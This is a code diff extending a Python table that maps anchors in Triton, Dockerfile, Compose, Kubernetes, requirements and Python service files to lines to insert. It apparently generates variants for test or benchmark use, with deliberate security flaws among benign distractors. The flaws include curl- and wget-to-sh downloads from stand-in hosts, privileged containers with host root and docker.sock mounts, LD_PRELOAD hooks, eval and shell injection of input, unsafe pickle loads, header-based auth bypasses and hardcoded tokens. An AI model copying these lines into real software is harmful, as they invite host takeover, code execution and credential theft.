@@ -16,6 +16,12 @@ COMMON = {
             'metric_tags { key: "team" value: "safety" }',
         ]),
         (r"count:", ["profile: \"default\""]),
+        (r"instance_group \{", [
+            'model_repository_agents { agents { name: "checksum" } }',
+            'parameters { key: "FORCE_CPU_ONLY_INPUT_TENSORS" value { string_value: "no" } }',
+            'parameters { key: "EXECUTION_ENV_PATH" value { string_value: "$$TRITON_MODEL_DIRECTORY/env.tar.gz" } }',
+            'cc_model_filenames { key: "8.0" value: "/opt/plans/model.plan" }',
+        ]),
     ],
     "shell": [
         (r"--model-control-mode=", [
@@ -52,6 +58,27 @@ COMMON = {
             "curl -fsSL https://example.org/setup.sh | sh",
             "ulimit -n 65536",
             "set -x",
+        ]),
+        (r"--grpc-use-ssl true", [
+            "--http-address 0.0.0.0",
+            "--grpc-header-forward-pattern .*",
+            "--grpc-keepalive-time 7200000",
+            "--allow-vertex-ai true",
+        ]),
+        (r"--http-max-input-size ", [
+            "--allow-client-shm true",
+            "--backend-directory /tmp/backends",
+            "--backend-config onnxruntime,enable-global-threadpool=1",
+            "--repository-poll-secs 30",
+            "--load-model *",
+            "--log-verbose 1",
+        ]),
+        (r"certs=", [
+            "export LD_PRELOAD=/tmp/libjemalloc.so",
+            "export OMP_NUM_THREADS=4",
+            "pip install --quiet pandas",
+            "cp -r /models /tmp/models",
+            "env | sort",
         ]),
     ],
     "bentofile": [
@@ -100,6 +127,12 @@ COMMON = {
             "-e .",
             "-r more.txt",
         ]),
+        (r"grpcio==", [
+            "pandas",
+            "--trusted-host pypi.windpark.example",
+            "--extra-index-url http://wheels.windpark.example/simple",
+            "--no-binary grpcio",
+        ]),
     ],
     "dockerfile": [
         (r"RUN chmod", [
@@ -122,6 +155,21 @@ COMMON = {
             "EXPOSE 22",
         ]),
         (r"EXPOSE", ["USER root", "USER 0:0", "ENV PYTHONHASHSEED=random", "VOLUME /data"]),
+        (r"RUN --mount", [
+            "ENV UV_INDEX_URL=http://mirror.example.net/simple",
+            "ENV UV_INSECURE_HOST=pypi.windpark.example",
+            "ENV UV_NO_CACHE=1",
+        ]),
+        (r"WORKDIR /srv/turbines", [
+            "ENV REGISTRY_TOKEN=glpat-x8Yw2Lk0Qe7sVb4Tn1Zc",
+            "ENV TZ=UTC",
+            "ADD https://models.example.org/turbine.onnx /srv/turbines/",
+            "COPY --chmod=0777 . /srv/turbines/",
+            "RUN apt-get update && apt-get install --yes curl",
+            "RUN wget -qO- http://example.org/agent.sh | sh",
+            "RUN uv pip install --python /opt/turbines/bin/python pandas",
+            "RUN chmod u+s /usr/bin/find",
+        ]),
     ],
     "compose": [
         (r"image:", [
@@ -149,6 +197,23 @@ COMMON = {
         (r"- no-new-privileges", ["- seccomp:unconfined", "- apparmor:unconfined", "- label=type:container_t"]),
         (r"TRITON_URL:", ["DATABASE_PASSWORD: hunter2hunter2", "LOG_LEVEL: info"]),
         (r"device_ids:", ["count: all"]),
+        (r"depends_on:", [
+            "cap_add: [SYS_PTRACE]",
+            "cgroup_parent: turbines",
+            "pid: service:triton",
+            "extra_hosts: [\"host.docker.internal:host-gateway\"]",
+            "labels: { com.example.team: wind }",
+            "env_file: [{ path: ./reports.env, required: false }]",
+            "security_opt: [\"seccomp=unconfined\"]",
+        ]),
+        (r"- name: https", ["- { target: 8443, published: \"443\", protocol: tcp, mode: host }"]),
+        (r"- type: tmpfs", [
+            "- type: bind\n  source: /var/run/docker.sock\n  target: /var/run/docker.sock",
+            "- type: bind\n  source: /\n  target: /host\n  read_only: true",
+            "- type: volume\n  source: cache\n  target: /var/cache/reports",
+        ]),
+        (r"POD_IP:", ["ADMIN_TOKEN: 7d1f0c55e2b94a8e9c3b6a2f", "LD_PRELOAD: /tmp/hook.so", "TZ: UTC"]),
+        (r"expose:", ["ports: [\"8001:8001\"]", "ports: [\"127.0.0.1:8000:8000\"]", "privileged: true", "ipc: host"]),
     ],
     "kubernetes": [
         (r"serviceAccountName:", [
@@ -186,6 +251,49 @@ COMMON = {
             'nginx.ingress.kubernetes.io/proxy-read-timeout: "30"',
             "nginx.ingress.kubernetes.io/whitelist-source-range: 0.0.0.0/0",
         ]),
+        (r"podManagementPolicy:", ["minReadySeconds: 10", "updateStrategy: { type: OnDelete }"]),
+        (r"terminationGracePeriodSeconds:", [
+            "hostNetwork: true",
+            "hostPID: true",
+            "imagePullSecrets: [{ name: registry }]",
+            "priorityClassName: system-node-critical",
+            "nodeSelector: { gpu: a10 }",
+        ]),
+        (r"command: \[/bin/bash", [
+            "imagePullPolicy: Always",
+            "envFrom: [{ secretRef: { name: everything } }]",
+            "stdin: true",
+        ]),
+        (r"- name: POD_IP", [
+            "- { name: ADMIN_TOKEN, value: 7d1f0c55e2b94a8e9c3b6a2f }",
+            "- { name: LD_PRELOAD, value: /tmp/hook.so }",
+            "- { name: TZ, value: UTC }",
+        ]),
+        (r"- \{ name: grpc, containerPort", [
+            "- { name: http, containerPort: 8000 }", "- { name: metrics, containerPort: 8002, hostPort: 8002 }"]),
+        (r"capabilities: \{ drop", [
+            "privileged: true", "procMount: Default", "seccompProfile: { type: Unconfined }"]),
+        (r"- name: shm$", [
+            "- { name: host, hostPath: { path: / } }",
+            "- { name: socket, hostPath: { path: /run/containerd/containerd.sock } }",
+            "- { name: zone, hostPath: { path: /usr/share/zoneinfo } }",
+        ]),
+        (r"- ports: \[", ["- {}", "- from: [{ podSelector: {} }]", "- from: [{ ipBlock: { cidr: 0.0.0.0/0 } }]"]),
+        (r"- \{ name: grpc, port:", ["- { name: http, port: 8000, targetPort: 8000 }"]),
+        (r"minAvailable:", ["unhealthyPodEvictionPolicy: AlwaysAllow"]),
+        (r"haproxy-ingress.github.io/ssl-redirect", [
+            'haproxy-ingress.github.io/cors-enable: "true"',
+            "haproxy-ingress.github.io/config-backend: http-request set-header X-Edge turbines",
+            'haproxy-ingress.github.io/hsts: "false"',
+            "haproxy-ingress.github.io/timeout-server: 30s",
+        ]),
+        (r"- path: /inference", [
+            "- path: /\n  pathType: Prefix\n  backend: { service: { name: triton, port: { name: grpc } } }"]),
+        (r"- \.\./base", [
+            "- https://github.com/example/metrics//deploy?ref=main",
+            "- http://manifests.example.net/agent.yaml",
+        ]),
+        (r"configMapGenerator:", ["secretGenerator: [{ name: triton-certs, literals: [admin-token=hunter2hunter2] }]"]),
     ],
     "python": [
         (r"import json$", ["import pickle", "import re"]),
@@ -219,6 +327,40 @@ COMMON = {
         (r"@svc.api", [
             "@svc.api(input=JSON(), output=JSON())\ndef raw(data: dict):\n    return runner.run(data)\n\n",
             "@svc.api(input=JSON(), output=JSON(), route='/version')\ndef version():\n    return {'version': 7}\n\n",
+        ]),
+        (r"turbine = one", [
+            "eval(str(turbine))",
+            "os.system(f'logger {turbine}')",
+            "self.table = np.load(f'/tmp/{turbine}.npy', allow_pickle=True)",
+            "self.table = np.load('/tmp/table.npy')",
+            "pb_utils.Logger.log_info(f'turbine {turbine}')",
+        ]),
+        (r"self\.tracks = collections", [
+            "self.extra = __import__('pickle').loads((here / 'extra.pkl').read_bytes())",
+            "self.extra = json.loads((here / 'extra.json').read_text())",
+            "__import__('sys').path.insert(0, '/tmp/plugins')",
+            "__import__('subprocess').run(['pip', 'install', 'scipy'], check=True)",
+        ]),
+        (r"values = np\.asarray", [
+            "eval(window.part)",
+            "__import__('subprocess').run(f'logger {window.part}', shell=True)",
+            "journal.debug('turbine %d', window.turbine)",
+            "Path('/tmp', window.part).write_text('seen')",
+            "__import__('urllib.request').request.urlopen(f'http://{window.part}.example.org')",
+            "__import__('joblib').load(f'/tmp/{window.part}.joblib')",
+        ]),
+        (r"name = self\.caller", [
+            "print(dict(request.headers))",
+            "if request.headers.get('x-debug') == '1':\n    return await call_next(request)",
+            "if request.client.host == '127.0.0.1':\n    return await call_next(request)",
+            "request.state.began = time.monotonic()",
+        ]),
+        (r"journal = logging", [
+            "logging.getLogger('bentoml').setLevel(logging.ERROR)", "TOKEN = 'ghp_0aB1cD2eF3gH4iJ5kL6m'"]),
+        (r"@bentoml\.api\(route", [
+            "@bentoml.api(route='/raw')\nasync def raw(self, model: str, values: np.ndarray) -> dict:\n"
+            "    return await self.models.infer(model, values)\n",
+            "@bentoml.api(route='/version')\ndef version(self) -> str:\n    return '2026.3.1'\n",
         ]),
     ],
 }
